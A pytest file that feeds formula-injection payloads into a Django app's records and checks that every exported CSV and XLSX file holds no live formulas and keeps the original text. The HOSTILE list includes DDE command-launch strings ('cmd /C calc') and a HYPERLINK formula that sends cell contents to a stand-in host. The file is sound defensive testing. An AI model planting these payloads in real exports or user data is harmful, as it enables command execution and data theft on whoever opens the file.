"""Whatever was typed: no cell of a file that goes out is a formula, and the text is still there.

Files are found by walking the pages and the operations: a new CSV or XLSX is opened without a line
here, when its name is one of those below or in `GAP_FILES`.
"""

import csv
import io
import zipfile
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.test import Client

from api.conftest import Program
from api.test_access import operations, url
from hostile.conftest import SHARED, put_away
from hostile.test_operations import sent
from reperform.accounts.models import Organization, User
from reperform.program.models import AdoptedControl, RemediationTask
from reperform.report.gap_files import GAP_FILES
from web.test_permissions import PAGES, SAMPLES

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""First characters that make a cell a formula.  Source: OWASP, CSV injection."""
KINDS = ("csv", "xlsx")
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"y")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    'a,b";=1+1',
]


def payloads() -> list[str]:
    """Return our own, and those of the list where it is."""
    file = SHARED / "csv-injection" / "csv-payload.txt"
    return [*HOSTILE, *(file.read_text("utf-8").splitlines() if file.is_file() else ())]


@pytest.fixture
def bent(company: Organization) -> list[str]:
    """Put each text everywhere that a file shows, past the checks of forms; return the texts."""
    every = payloads()
    Organization.objects.filter(pk=company.pk).update(name=every[0])
    controls = AdoptedControl.objects.filter(organization=company).order_by("pk")
    tasks = RemediationTask.objects.filter(organization=company).order_by("pk")
    for number, (control, task) in enumerate(zip(controls, tasks, strict=False)):
        text = every[number % len(every)]
        AdoptedControl.objects.filter(pk=control.pk).update(title=text, text=text, owner_role=text)
        changed = {"title": text, "note": text, "reason": text, "control": text[:12]}
        RemediationTask.objects.filter(pk=task.pk).update(state="open", closed_on=None, **changed)
        User.objects.filter(memberships=control.owner_id).update(name=text)
    RemediationTask.objects.filter(pk__in=[each.pk for each in tasks[len(every) :]]).delete()
    shown = len(min(controls, tasks, key=len))
    return every[:shown]


def pages(company: Organization) -> Iterator[str]:
    """Yield the URL of each page that could be a CSV or XLSX file, with every such name."""
    names = {*KINDS, *(name for name in GAP_FILES if name.endswith(KINDS))}
    for page in PAGES:
        for part in ("kind", "name"):
            if f":{part}>" in page.route:
                plain = page.url(company.slug)
                yield from (plain.replace(SAMPLES[part], name) for name in names)


def from_pages(browser: Client, company: Organization) -> dict[str, bytes]:
    answers = {url: browser.get(url) for url in pages(company)}
    return {url: read(answer) for url, answer in answers.items() if is_sheet(answer)}


def from_operations(caller: Program) -> dict[str, bytes]:
    found = {}
    for method, path, _ in operations():
        for name in GAP_FILES if method == "get" and path.endswith("{str:name}") else ():
            asked = path.replace("{str:name}", name)
            answer = sent(caller, "get", asked, b"")
            if is_sheet(answer):
                found[url(asked) if "{" in asked else asked] = read(answer)
    return found


def is_sheet(answer: Any) -> bool:  # noqa: ANN401 - a response
    kind = str(answer.headers["Content-Type"])
    return answer.status_code == 200 and ("csv" in kind or "spreadsheetml" in kind)


def read(answer: Any) -> bytes:  # noqa: ANN401 - a response
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    put_away(answer)
    return bytes(content)


def cells(content: bytes) -> list[str]:
    """Return every cell that is text; of a workbook, none that is a formula or links elsewhere."""
    if not zipfile.is_zipfile(io.BytesIO(content)):
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    book = openpyxl.load_workbook(io.BytesIO(content))
    every = [cell for page in book.worksheets for row in page.iter_rows() for cell in row]
    assert not [cell.value for cell in every if cell.data_type == "f" or cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not [name for name in parts.namelist() if "external" in name.lower()]
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name)]
    return [cell.value for cell in every if isinstance(cell.value, str)]


def running(texts: list[str]) -> list[str]:
    return [each for each in texts if each.lstrip(" \u00a0").startswith((*RUNS, "\uff1d"))]


def test_no_cell_runs_and_no_text_is_lost(
    company: Organization, bent: list[str], browser: Client, caller: Program
) -> None:
    """Every file of pages and operations; the plan and the workbook still say each text."""
    files = from_pages(browser, company) | from_operations(caller)

    for name, content in files.items():
        assert not running(cells(content)), name
    for name in ("plan.csv", "gap-analysis.xlsx"):
        holding = [cells(content) for url, content in files.items() if url.endswith(name)]
        assert len(holding) == 2, "from the page and from the operation"
        for found in holding:
            plain = [each.removeprefix("'").replace("\r", "").strip() for each in found]
            assert not [text for text in bent if text.replace("\r", "").strip() not in plain], name
    assert len(files) >= 8
    assert len(bent) >= len(HOSTILE)
